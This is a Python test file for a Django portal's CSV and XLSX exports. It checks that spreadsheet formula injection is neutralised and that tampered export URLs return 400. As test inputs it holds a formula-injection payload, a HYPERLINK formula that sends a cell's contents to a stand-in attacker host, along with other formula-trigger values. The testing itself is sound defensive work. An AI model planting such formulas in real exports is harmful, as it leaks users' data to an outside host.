"""No CSV or XLSX the portal writes hands a spreadsheet a formula (CSV injection), and a tampered
export URL is a 400, never a 500."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from envcrime.exports import neutralise, restore_neutralised
from meetings.resources import RegistrationResource
from programmes.models import Contact
from programmes.resources import ContactResource
from recommendations.models import Delivery, Distribution
from tests.factories import ContactFactory, RegistrationFactory, member_country
from tests.recommendations.factories import published_package

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"x")'
DANGEROUS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]
CSV_FORMAT, XLSX_FORMAT = "0", "1"


def cells(response, file_format):
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    if file_format == CSV_FORMAT:
        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_no_formula(values, expected):
    """Every dangerous value is there, and only as inert text."""
    # XLSX is XML, whose parsers read a carriage return as a line feed.
    texts = [value.replace("\r", "\n") for value in values if isinstance(value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\n"))]
    for value in expected:
        assert "'" + value.replace("\r", "\n") in texts


def export(client, url, resource_class, file_format, resource="0"):
    columns = {f"{resource_class.__name__.lower()}_{name}": "on" for name in resource_class().get_export_order()}
    return client.post(url, {"format": file_format, "resource": resource, **columns})


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_contact_exports_neutralise_formulae(staff_client, file_format):
    ContactFactory(member_country=member_country("KE"), name=HYPERLINK, title="+1+2", phone="-1+2")
    ContactFactory(member_country=member_country("SN"), name="@SUM(A1)", title="\t=1+2", phone="\r=1+2")
    response = export(staff_client, reverse("admin:programmes_contact_export"), ContactResource, file_format)
    assert_no_formula(cells(response, file_format), DANGEROUS)


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_registration_exports_neutralise_formulae(staff_client, file_format):
    for value in DANGEROUS:
        RegistrationFactory(full_name=value)
    response = export(staff_client, reverse("admin:meetings_registration_export"), RegistrationResource, file_format)
    assert_no_formula(cells(response, file_format), DANGEROUS)


def test_the_delivery_report_neutralises_formulae(staff_client):
    package = published_package()
    distribution = Distribution.objects.create(package=package)
    contact = ContactFactory(member_country=member_country("KE"), name=HYPERLINK, is_primary=True)
    Delivery.objects.create(
        distribution=distribution,
        package=package,
        contact=contact,
        member_country=contact.member_country,
        email="ke@example.org",
        status=Delivery.Status.FAILED,
        last_error="@SUM(A1)",
    )
    report = staff_client.get(reverse("admin:recommendations_distribution_report", args=[distribution.pk]))
    rows = list(csv.DictReader(io.StringIO(report.content.decode())))
    assert_no_formula([value for row in rows for value in row.values()], [HYPERLINK, "@SUM(A1)"])
    assert rows[0]["region"] == "Africa"


def test_plain_values_are_left_alone_and_neutralised_ones_come_back():
    assert neutralise("Grace Wanjiru") == "Grace Wanjiru"
    assert neutralise(3) == 3
    assert restore_neutralised(neutralise("+254 20 000")) == "+254 20 000"
    assert restore_neutralised("'quoted on purpose") == "'quoted on purpose"


def test_an_exported_file_imports_back_as_typed(staff_client):
    ContactFactory(member_country=member_country("KE"), email="grace@example.org", phone="+254 20 000")
    exported = export(staff_client, reverse("admin:programmes_contact_export"), ContactResource, CSV_FORMAT)
    assert "'+254 20 000" in exported.content.decode("utf-8-sig")
    dataset = ContactResource().import_data(
        tablib.Dataset().load(exported.content.decode("utf-8-sig"), format="csv"), dry_run=False
    )
    assert not dataset.has_errors()
    assert Contact.objects.get(email="grace@example.org").phone == "+254 20 000"


@pytest.mark.parametrize("name", ["programmes_contact_export", "meetings_registration_export"])
def test_a_tampered_export_query_string_is_a_400(staff_client, name):
    assert staff_client.get(reverse(f"admin:{name}"), {"format": "0"}).status_code == 400
    assert staff_client.get(reverse(f"admin:{name}"), {"no_such_field": "1"}).status_code == 400
